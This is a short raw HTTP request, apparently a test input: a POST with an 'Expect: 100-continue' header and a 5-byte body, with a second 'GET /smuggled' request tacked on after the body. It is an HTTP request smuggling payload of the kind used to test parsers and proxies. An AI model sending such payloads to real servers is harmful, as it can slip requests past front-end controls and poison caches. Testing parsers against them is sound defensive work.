POST / HTTP/1.1
Host: a
Expect: 100-continue
Content-Length: 5

helloGET /smuggled HTTP/1.1
Host: a

